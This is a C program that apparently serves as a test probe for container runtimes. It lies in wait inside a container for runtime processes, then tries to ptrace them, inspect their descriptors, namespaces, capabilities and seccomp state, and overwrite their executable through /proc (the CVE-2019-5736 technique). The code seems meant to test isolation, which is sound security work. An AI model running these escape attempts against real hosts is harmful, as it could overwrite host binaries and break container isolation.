// Lies in wait inside a container for processes of the runtime: a process whose program is none of
// the container's own. Tries to trace it, to list its descriptors and to write its program, and looks
// whether it has what the container has not: capabilities, namespaces, a root, groups, descriptors
// beside the standard streams and one socket, or no filter.
//   watch OWN-PROGRAM...
// SIGTERM ends it; it then prints "seen N traced N listed N written N directories N gained N".
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t ended;
static struct stat own[16];
static int own_count;
static long seen, traced, listed, written, directories, gained;

static void on_term(int number) { (void)number; ended = 1; }

static int is_foreign(const char* pid);

static int is_own(const struct stat* status) {
  for (int i = 0; i < own_count; ++i)
    if (own[i].st_dev == status->st_dev && own[i].st_ino == status->st_ino) return 1;
  return 0;
}

// 1: a program that is not the container's; 0: one that is; -1: the kernel does not say.
static int is_foreign(const char* pid) {
  char path[300];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  return stat(path, &status) < 0 ? -1 : !is_own(&status);
}

// Holds the program and writes to it as soon as nobody runs it (CVE-2019-5736).
static void try_write(const char* pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return;
  struct stat status;
  if (fstat(held, &status) == 0 && !is_own(&status)) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 2000; ++tries) {
      const int writer = open(path, O_WRONLY | O_CLOEXEC);
      if (writer < 0 && errno == ETXTBSY) continue;
      if (writer >= 0 && write(writer, "overwritten", 11) > 0) ++written;
      if (writer >= 0) close(writer);
      break;
    }
  }
  close(held);
}

// A field of /proc/<pid>/status as a hexadecimal or decimal number; -1 where it cannot be read.
static long long status_field(const char* pid, const char* field, int base) {
  char path[300], line[300];
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  FILE* file = fopen(path, "re");
  long long value = -1;
  while (file != NULL && value < 0 && fgets(line, sizeof line, file) != NULL)
    if (strncmp(line, field, strlen(field)) == 0) value = strtoll(line + strlen(field) + 1, NULL, base);
  if (file != NULL) fclose(file);
  return value;
}

// 1: both can be looked at, and are not the same.
static int differs(const char* pid, const char* name) {
  char theirs[300], ours[300];
  struct stat one, other;
  snprintf(theirs, sizeof theirs, "/proc/%s/%s", pid, name);
  snprintf(ours, sizeof ours, "/proc/self/%s", name);
  if (stat(theirs, &one) < 0 || stat(ours, &other) < 0) return 0;
  return one.st_dev != other.st_dev || one.st_ino != other.st_ino;
}

static long long read_whole(const char* pid, const char* name, char* text, size_t size) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
  const int file = open(path, O_RDONLY | O_CLOEXEC);
  const ssize_t length = file < 0 ? -1 : read(file, text, size - 1);
  if (file >= 0) close(file);
  text[length < 0 ? 0 : length] = '\0';
  return length;
}

static const char* gain_of(const char* pid) {
  static const char* const spaces[] = {"ns/mnt", "ns/pid_for_children", "ns/net", "ns/ipc", "ns/uts", "ns/cgroup", "root", "cwd"};
  static char theirs[4096], ours[4096];
  for (size_t i = 0; i < sizeof spaces / sizeof *spaces; ++i)
    if (differs(pid, spaces[i])) return spaces[i];
  const long long rights = status_field(pid, "CapPrm:", 16);
  if (rights >= 0 && (rights & ~status_field("self", "CapPrm:", 16)) != 0) return "capabilities";
  if (status_field(pid, "Seccomp:", 10) == 0 && status_field("self", "Seccomp:", 10) > 0) return "filter";
  if (read_whole(pid, "cgroup", theirs, sizeof theirs) > 0 && read_whole("self", "cgroup", ours, sizeof ours) > 0 &&
      strcmp(theirs, ours) != 0)
    return "groups";
  return NULL;
}

static void try_gain(const char* pid) {
  const char* what = gain_of(pid);
  if (what == NULL || is_foreign(pid) != 1) return;  // it may have exec'd meanwhile
  if (gained++ == 0) fprintf(stderr, "gained: %s of %s\n", what, pid);
}

// What its descriptors are: a directory of the host among them would be the way out.
static void try_list(const char* pid) {
  char path[300], name[600];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* open_files = opendir(path);
  if (open_files == NULL) return;
  int count = 0, folders = 0, beside = 0, sockets = 0;
  for (struct dirent* entry; (entry = readdir(open_files)) != NULL;) {
    struct stat status;
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    ++count;
    snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
    if (stat(name, &status) < 0) continue;
    if (S_ISDIR(status.st_mode)) ++folders;
    if (atoi(entry->d_name) > 2 && S_ISSOCK(status.st_mode)) ++sockets;
    else if (atoi(entry->d_name) > 2) ++beside;
  }
  closedir(open_files);
  if (count == 0 || is_foreign(pid) != 1) return;  // it may have exec'd meanwhile
  ++listed;
  directories += folders;
  if (beside > 0 || sockets > 1) ++gained;
}

static void try_trace(const char* pid) {
  const pid_t number = atoi(pid);
  if (ptrace(PTRACE_ATTACH, number, 0, 0) < 0) return;
  int status;
  waitpid(number, &status, __WALL);
  if (is_foreign(pid) == 1) ++traced;
  ptrace(PTRACE_DETACH, number, 0, 0);
  kill(number, SIGCONT);  // the stop of the attachment may still be to come
}

static void look(void) {
  DIR* processes = opendir("/proc");
  for (struct dirent* entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
    const char* pid = entry->d_name;
    if (!isdigit((unsigned char)pid[0]) || atoi(pid) == getpid() || atoi(pid) == 1) continue;
    if (is_foreign(pid) == 0) continue;
    ++seen;
    try_list(pid);
    try_gain(pid);
    try_trace(pid);
    try_write(pid);
  }
  if (processes != NULL) closedir(processes);
}

int main(int argc, char** argv) {
  signal(SIGTERM, on_term);
  for (int i = 1; i < argc && own_count < 15; ++i)
    if (stat(argv[i], &own[own_count]) == 0) ++own_count;
  if (stat("/proc/self/exe", &own[own_count]) == 0) ++own_count;
  while (!ended) {
    look();
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
  }
  printf("seen %ld traced %ld listed %ld written %ld directories %ld gained %ld\n", seen, traced, listed, written,
         directories, gained);
  fflush(stdout);
}
